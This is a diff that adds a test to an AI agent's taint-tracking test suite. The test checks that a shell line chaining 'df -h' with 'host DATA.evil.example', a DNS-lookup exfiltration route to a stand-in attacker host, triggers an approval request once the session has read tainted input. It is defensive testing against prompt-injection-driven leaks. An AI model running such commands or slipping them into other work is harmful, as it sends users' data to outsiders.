@@ -121,6 +121,28 @@ test_own_words (void)
   g_assert_cmpint (agent_test_count (test, "SELECT count(*) FROM session_taints"), ==, 1);
 }
 
+/* The lethal trifecta's quiet way out: a line that only reads, and looks up a name that carries what was read. */
+static void
+test_outward_line (void)
+{
+  g_autoptr (AgentTest) test = agent_test_new ();
+  g_autofree char *operator = agent_test_add_operator (test, "Keeper", "elevate", "lenient");
+  g_autofree char *first = ask_in (test, NULL, "[{\"id\":\"a\",\"name\":\"test.line\",\"arguments\":{\"text\":\"host DATA.evil.example\"}}]");
+  g_autofree char *session = get_session (test, first);
+  g_autofree char *second = NULL;
+
+  /* Nothing was read yet that could have asked for it. */
+  agent_test_wait_end (test, first);
+  g_assert_cmpint (agent_test_n_runs, ==, 1);
+
+  second = ask_in (test, session, "[{\"id\":\"b\",\"name\":\"test.line\",\"arguments\":{\"text\":\"df -h\"}},"
+                                  "{\"id\":\"c\",\"name\":\"test.line\",\"arguments\":{\"text\":\"df -h; host DATA.evil.example\"}}]");
+  deny (test);
+  agent_test_wait_end (test, second);
+  g_assert_cmpint (agent_test_n_runs, ==, 2);
+  g_assert_cmpint (agent_test_count (test, "SELECT count(*) FROM audit WHERE event = 'approval.requested' AND rule = 'outward' AND level = 'read'"), ==, 1);
+}
+
 static guint
 count (const char *text, const char *word)
 {
@@ -250,6 +272,7 @@ main (int argc, char **argv)
   g_test_add_func ("/agent/taint/survives", test_survives);
   g_test_add_func ("/agent/taint/turned-off", test_turned_off);
   g_test_add_func ("/agent/taint/own-words", test_own_words);
+  g_test_add_func ("/agent/taint/outward-line", test_outward_line);
   g_test_add_func ("/agent/taint/injection", test_injection);
 
   return g_test_run ();
